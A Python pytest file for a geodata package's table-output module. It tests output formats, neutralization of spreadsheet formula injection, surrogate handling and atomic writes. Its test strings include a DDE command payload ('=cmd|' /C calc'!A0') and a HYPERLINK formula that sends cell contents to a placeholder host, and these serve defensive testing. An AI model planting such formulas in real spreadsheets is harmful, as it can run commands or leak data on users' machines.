"""Tests for afghangeo._output: formats, formula injection (F03), surrogates (F08), atomicity."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from afghangeo._columns import load_table
from afghangeo._csv import read_csv
from afghangeo._output import (
    FORMATS,
    FORMULA_PREFIXES,
    neutralize_formula,
    output_format,
    render_table,
    write_table,
)
from afghangeo.errors import DataError, InvalidInputError

NUMBER_LIKE = ["-5", "+3", "-38.0", "-1e5", "+.5", "-0.25E-3"]
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1",
            "\r=1", "=cmd|' /C calc'!A0", "-", "+", "-inf", "- 5", "-5 "]  # fmt: skip
SAFE = ["Kabul", "لشکرگاه", " =1", "", "5", "a=b", "'=1", "1-2"]


@pytest.fixture
def incidents() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"place": pd.Series(["=cmd|x", "Na\ud800wa", None], dtype=object),
         "killed": [3, -5, np.nan],
         "date": pd.to_datetime(["2020-10-12", None, "2021-05-06"])},
        geometry=[gpd.points_from_xy([64.1], [31.5])[0], gpd.points_from_xy([65.2], [32.1])[0],
                  None],
        crs=4326,
    )  # fmt: skip


# --- formats -------------------------------------------------------------------------


@pytest.mark.parametrize(("target", "fmt", "expected"), [
    ("a.csv", None, "csv"), ("A.CSV", None, "csv"), ("a.json", None, "json"),
    ("a.geojson", None, "geojson"), ("a.gpkg", None, "gpkg"), ("a.parquet", None, "parquet"),
    ("a.xlsx", None, "xlsx"), ("a.txt", "table", "table"), ("a.csv", "json", "json"),
    ("-", None, "csv"), (io.StringIO(), None, "csv"),
])  # fmt: skip
def test_output_format(target: Any, fmt: str | None, expected: str) -> None:
    assert output_format(target, fmt) == expected


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_terminal_gets_the_table_display() -> None:
    assert output_format(_Terminal()) == "table"


@pytest.mark.parametrize(("target", "fmt", "match"), [
    ("out.txt", None, r"Cannot tell the output format of 'out.txt' from its suffix '.txt'; "
                      r"end the name with one of .csv, .json"),
    ("out", None, "suffix ''"),
    ("out.tsv", None, r"or choose a format \(csv, json, geojson, gpkg, parquet, xlsx, table\)"),
    ("out.csv", "yaml", "Unknown output format 'yaml'; use one of csv, json"),
    (3, None, "Write a table to a path, '-' or a text stream, not int"),
])  # fmt: skip
def test_unknown_formats_are_refused_never_csv(
    tmp_path: Path, target: Any, fmt: str | None, match: str
) -> None:
    with pytest.raises(InvalidInputError, match=match):
        write_table(pd.DataFrame({"a": [1]}), target, format=fmt)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("suffix", [".csv", ".json", ".geojson", ".gpkg", ".parquet", ".xlsx"])
def test_every_file_format_reads_back(
    tmp_path: Path, incidents: gpd.GeoDataFrame, suffix: str
) -> None:
    if suffix == ".xlsx":
        pytest.importorskip("openpyxl")
    path = tmp_path / f"out{suffix}"
    write_table(incidents, path)
    back = load_table(path)
    assert len(back) == 3
    assert list(back.columns) == ["place", "killed", "date", "geometry"]
    assert back["killed"].iloc[1] == -5  # numbers stay numbers
    assert pd.isna(back["killed"].iloc[2])
    if suffix in (".geojson", ".gpkg", ".parquet"):
        assert isinstance(back, gpd.GeoDataFrame)
        assert back.geometry.iloc[0].x == pytest.approx(64.1)
        assert back["place"].iloc[0] == "=cmd|x"  # machine formats are not neutralized
    else:
        assert back["geometry"].iloc[0] == "POINT (64.1 31.5)"  # WKT
        assert pd.isna(back["geometry"].iloc[2])
    assert back["place"].iloc[1] == "Na\ufffdwa"


def test_csv_text(incidents: gpd.GeoDataFrame) -> None:
    assert render_table(incidents, "csv") == (
        "place,killed,date,geometry\n"
        "'=cmd|x,3.0,2020-10-12,POINT (64.1 31.5)\n"
        "Na\ufffdwa,-5.0,,POINT (65.2 32.1)\n"
        ",,2021-05-06,\n"
    )


def test_json_records(incidents: gpd.GeoDataFrame) -> None:
    records = json.loads(render_table(incidents, "json"))
    assert records[0] == {"place": "=cmd|x", "killed": 3.0, "date": "2020-10-12T00:00:00.000",
                          "geometry": "POINT (64.1 31.5)"}  # fmt: skip
    assert records[2]["killed"] is None
    assert records[2]["geometry"] is None


def test_geojson_is_wgs84(incidents: gpd.GeoDataFrame) -> None:
    text = render_table(incidents.to_crs(3857), "geojson")
    assert isinstance(text, str)
    features = json.loads(text)["features"]
    assert features[0]["geometry"]["coordinates"] == pytest.approx([64.1, 31.5])
    assert features[0]["properties"]["date"] == "2020-10-12T00:00:00"
    assert features[2]["geometry"] is None


def test_table_display_is_aligned_with_empty_gaps(incidents: gpd.GeoDataFrame) -> None:
    text = render_table(incidents.drop(columns="geometry"), "table")
    assert isinstance(text, str)
    lines = text.splitlines()
    assert lines[0].split() == ["place", "killed", "date"]
    assert len({len(line) for line in lines}) == 1
    assert "NaN" not in text
    assert "NaT" not in text
    assert lines[1].lstrip().startswith("'=cmd|x")
    assert render_table(incidents.iloc[:0], "table") == "place  killed  date  geometry\n"


@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
def test_geometry_formats_need_geometry(fmt: str) -> None:
    with pytest.raises(InvalidInputError, match=f"format '{fmt}' needs a GeoDataFrame"):
        render_table(pd.DataFrame({"a": [1]}), fmt)


def test_plain_frames_go_to_parquet_and_xlsx(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", None]})
    for suffix in (".parquet", ".xlsx"):
        write_table(frame, tmp_path / f"t{suffix}")
        assert load_table(tmp_path / f"t{suffix}")["a"].tolist() == [1, 2]


def test_a_column_parquet_cannot_hold_is_one_line() -> None:
    frame = pd.DataFrame({"mixed": pd.Series(["a", 1, 2.5], dtype=object)})
    with pytest.raises(InvalidInputError, match="Cannot write this table as parquet") as info:
        render_table(frame, "parquet")
    assert "\n" not in str(info.value)


def test_duplicate_names_cannot_go_to_json() -> None:
    frame = pd.DataFrame([[1, 2]], columns=["a", "a"])
    with pytest.raises(InvalidInputError, match="JSON needs distinct column names; rename 'a'"):
        render_table(frame, "json")


# --- formula injection (F03) ---------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_a_quote(text: str) -> None:
    assert neutralize_formula(text) == "'" + text


@pytest.mark.parametrize("text", NUMBER_LIKE + SAFE)
def test_numbers_and_safe_text_are_unchanged(text: str) -> None:
    assert neutralize_formula(text) == text


@pytest.mark.parametrize("fmt", ["csv", "table"])
def test_f03_names_and_cells_are_neutralized(fmt: str) -> None:
    frame = pd.DataFrame({"=X": ["=1+1", "-5"], "=X_missing": [-1.5, 2]})
    text = render_table(frame, fmt)
    assert isinstance(text, str)
    assert "'=X" in text
    assert "'=X_missing" in text
    assert "'=1+1" in text
    assert "'-5" not in text
    assert "'-1.5" not in text
    raw = render_table(frame, fmt, neutralize=False)
    assert isinstance(raw, str)
    assert "'" not in raw


def test_f03_xlsx_holds_text_not_formulas(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"place": ["=1+1", "Kabul"], "killed": [-3, 4]})
    path = tmp_path / "t.xlsx"
    write_table(frame, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A2"].value == "'=1+1"
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3
    assert sheet["B2"].data_type == "n"
    write_table(frame, path, neutralize=False)
    assert openpyxl.load_workbook(path).active["A2"].data_type == "f"


def test_f03_repro_geocode_output(tmp_path: Path) -> None:
    """The review's example: a geocode table whose input cell is a HYPERLINK formula."""
    frame = pd.DataFrame({"name": ['=HYPERLINK("http://x/?"&A1,"click")', "Kabul"],
                          "latitude": [np.nan, 34.53],
                          "status": ["not_found", "matched"]})  # fmt: skip
    path = tmp_path / "out.csv"
    write_table(frame, path)
    with path.open(newline="") as fh:
        row = next(r for r in csv.reader(fh) if r[0].startswith("'"))
    assert row[0] == """'=HYPERLINK("http://x/?"&A1,"click")"""


def _unsafe(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    return neutralize_formula(cell) == cell and cell[:1] in "+-"


@given(st.text(max_size=30))
def test_no_neutralized_text_starts_a_formula(text: str) -> None:
    out = neutralize_formula(text)
    assert not out.startswith(FORMULA_PREFIXES) or _is_number(out)
    if not text.startswith(FORMULA_PREFIXES):
        assert out == text


@given(st.from_regex(r"[+-]?(\d{1,5}(\.\d{0,3})?|\.\d{1,3})([eE][+-]?\d{1,2})?", fullmatch=True))
def test_numbers_are_never_quoted(text: str) -> None:
    assert neutralize_formula(text) == text
    float(text)


CELLS = st.one_of(
    st.none(), st.text(max_size=12), st.sampled_from([*FORMULAS, *NUMBER_LIKE, "Kab\ud800ul"])
)
NAMES = st.lists(st.text(alphabet="abc=+-@ _", min_size=1, max_size=5), min_size=1, max_size=4,
                 unique=True).filter(lambda names: all(n.strip() for n in names))  # fmt: skip


@st.composite
def text_tables(draw: st.DrawFn) -> pd.DataFrame:
    names = draw(NAMES)
    rows = draw(st.integers(0, 6))
    data = {n: pd.Series([draw(CELLS) for _ in range(rows)], dtype=object) for n in names}
    return pd.DataFrame(data, columns=pd.Index(names, dtype=object))


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(table=text_tables())
def test_csv_round_trip_keeps_rows_and_defuses_every_cell(
    tmp_path: Path, table: pd.DataFrame
) -> None:
    path = tmp_path / "t.csv"
    write_table(table, path)
    assert len(load_table(path)) == len(table)
    with path.open(encoding="utf-8", newline="") as fh:
        cells = list(csv.reader(fh))
    assert all(not _unsafe(cell) for row in cells for cell in row)
    back = read_csv(path, dtype=str, keep_default_na=False)
    assert len(back) == len(table)
    for column, name in zip(back.columns, table.columns, strict=True):
        assert column == neutralize_formula(name)
        for got, cell in zip(back[column], table[name], strict=True):
            text = "" if cell is None else re.sub("\r\n?", "\n", cell)
            expected = neutralize_formula(text).replace("\ud800", "\ufffd")
            assert got == expected.replace("\x00", "\ufffd")


@settings(max_examples=60, deadline=None)
@given(
    cells=st.lists(st.one_of(st.none(), st.text(max_size=8), st.sampled_from(FORMULAS)),
                   min_size=1, max_size=8),
    fmt=st.sampled_from(["csv", "table", "json"]),
)  # fmt: skip
def test_string_and_object_columns_are_written_alike(cells: list[str | None], fmt: str) -> None:
    as_object = pd.DataFrame({"a": pd.Series(cells, dtype=object)})
    as_string = pd.DataFrame({"a": pd.Series(cells, dtype="str")})
    assert render_table(as_string, fmt) == render_table(as_object, fmt)


def test_string_columns_in_xlsx_lose_control_characters() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"a": pd.Series(["x\x01y", "=1", "ok"], dtype="str")})
    data = render_table(frame, "xlsx")
    assert isinstance(data, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [sheet[f"A{i}"].value for i in (2, 3, 4)] == ["x\ufffdy", "'=1", "ok"]


# --- surrogates (F08) ----------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_f08_surrogates_never_raise(fmt: str) -> None:
    if fmt == "xlsx":
        pytest.importorskip("openpyxl")
    table = pd.DataFrame([["Kab\ud800ul"]], columns=pd.Index(["pla\udc80ce"], dtype=object),
                         dtype=object)  # fmt: skip
    frame = gpd.GeoDataFrame(table, geometry=gpd.points_from_xy([69.17], [34.53]), crs=4326)
    out = render_table(frame, fmt)
    text = out if isinstance(out, str) else ""
    if text:
        assert "\ufffd" in text
        text.encode("utf-8")


def test_xlsx_control_characters_are_replaced() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    data = render_table(pd.DataFrame({"a": ["x\x01y\x0bz"]}), "xlsx")
    assert isinstance(data, bytes)
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == "x\ufffdy\ufffdz"


# --- determinism ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_same_table_same_bytes(incidents: gpd.GeoDataFrame, fmt: str) -> None:
    if fmt == "xlsx":
        pytest.importorskip("openpyxl")
    assert render_table(incidents, fmt) == render_table(incidents.copy(), fmt)


def test_xlsx_carries_no_time_of_writing() -> None:
    pytest.importorskip("openpyxl")
    data = render_table(pd.DataFrame({"a": [1]}), "xlsx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert {info.date_time for info in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2


def test_gpkg_carries_no_time_of_writing(tmp_path: Path, incidents: gpd.GeoDataFrame) -> None:
    path = tmp_path / "t.gpkg"
    write_table(incidents, path)
    with sqlite3.connect(path) as db:
        rows = db.execute("select table_name, last_change from gpkg_contents").fetchall()
    assert rows == [("t", "2000-01-01T00:00:00Z")]
    import pyogrio

    assert pyogrio.get_gdal_config_option("OGR_CURRENT_DATE") is None  # restored


# --- targets -------------------------------------------------------------------------


def test_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
    write_table(pd.DataFrame({"a": ["=1", "x"]}), "-")
    assert capsys.readouterr().out == "a\n'=1\nx\n"
    write_table(pd.DataFrame({"a": [1]}), "-", format="json")
    assert capsys.readouterr().out == '[{"a":1}]\n'


def test_binary_formats_need_a_binary_stream() -> None:
    with pytest.raises(InvalidInputError, match="This format is binary; give a file name"):
        write_table(pd.DataFrame({"a": [1]}), io.StringIO(), format="parquet")
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    write_table(pd.DataFrame({"a": [1]}), stream, format="parquet")
    assert stream.buffer.getvalue().startswith(b"PAR1")  # type: ignore[attr-defined]


def test_files_are_replaced_atomically(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text("old\n")
    os.chmod(path, 0o640)
    write_table(pd.DataFrame({"a": [1]}), path)
    assert path.read_text() == "a\n1\n"
    assert path.stat().st_mode & 0o777 == 0o640
    with pytest.raises(InvalidInputError):  # refused before anything is written
        write_table(pd.DataFrame({"a": [1]}), path, format="geojson")
    assert path.read_text() == "a\n1\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_missing_folder_is_a_data_error(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"Cannot write '.*t\.csv': No such file or directory"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "nowhere" / "t.csv")


def test_the_callers_frame_is_not_changed(incidents: gpd.GeoDataFrame) -> None:
    before = incidents.copy()
    for fmt in ("csv", "geojson", "table"):
        render_table(incidents, fmt)
    pd.testing.assert_frame_equal(incidents, before)
